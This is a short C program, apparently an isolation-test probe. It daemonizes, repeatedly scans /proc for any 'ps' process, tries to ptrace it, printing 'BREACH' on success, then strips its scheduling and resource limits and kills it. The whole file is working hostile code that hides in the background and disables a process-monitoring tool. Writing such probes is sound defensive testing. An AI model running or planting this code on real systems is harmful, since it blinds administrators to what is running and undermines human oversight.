/* Lies in wait for ps: traces it, takes its limits and its processor away, and then kills it. */
#define _GNU_SOURCE
#include "attempt.h"
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <unistd.h>

static int is_ps(const char *pid)
{
    char path[64], name[16] = "";
    snprintf(path, sizeof path, "/proc/%s/comm", pid);
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, name, sizeof name - 1);
    if (fd >= 0)
        close(fd);
    return n == 3 && !strncmp(name, "ps\n", 3);
}

static void hunt(pid_t ps)
{
    struct rlimit none = { 0, 0 };
    struct sched_param lowest = { 0 };
    if (ptrace(PTRACE_SEIZE, ps, NULL, NULL) == 0)
        puts("BREACH");
    sched_setscheduler(ps, SCHED_IDLE, &lowest);
    prlimit(ps, RLIMIT_NOFILE, &none, NULL);
    prlimit(ps, RLIMIT_AS, &none, NULL);
    kill(ps, SIGKILL);
}

int main(void)
{
    if (fork() > 0)
        _exit(0);
    setsid();
    if (fork() > 0)
        _exit(0);
    for (;;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));)
            if (isdigit((unsigned char)entry->d_name[0]) && is_ps(entry->d_name))
                hunt(atoi(entry->d_name));
        closedir(proc);
        /* ps takes some milliseconds. */
        usleep(200);
    }
}
